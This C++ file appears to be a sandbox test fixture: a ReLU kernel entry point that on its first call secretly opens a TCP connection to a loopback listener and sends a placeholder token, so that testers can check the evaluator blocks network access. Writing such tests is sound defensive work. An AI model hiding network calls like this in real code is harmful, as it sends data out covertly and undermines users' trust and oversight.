// Attack (network, from native code): on its first call, connects to the test's TCP listener on
// 127.0.0.1 with plain sockets and sends its token. A trusted evaluator: no connection is ever seen.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include "hiera_contract.h"

static const char* TOKEN = "@TOKEN@";

static void phone_home() {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0) return;
    sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(@PORT@);
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(s, (sockaddr*)&a, sizeof a) == 0) {
        char msg[256];
        int n = snprintf(msg, sizeof msg, "tcp-cpp:%s", TOKEN);
        if (write(s, msg, n) < 0) {}
    }
    close(s);
}

extern "C" int hiera_forward(const hiera_tensor* x, hiera_tensor* out, void* stream) {
    (void)stream;
    static bool done = false;
    if (!done) {
        done = true;
        phone_home();
    }
    const float* xp = (const float*)x->data;
    float* op = (float*)out->data;
    int64_t n = 1;
    for (int64_t d = 0; d < x->ndim; ++d) n *= x->sizes[d];
    for (int64_t i = 0; i < n; ++i) op[i] = xp[i] > 0.f ? xp[i] : 0.f;
    return 0;
}
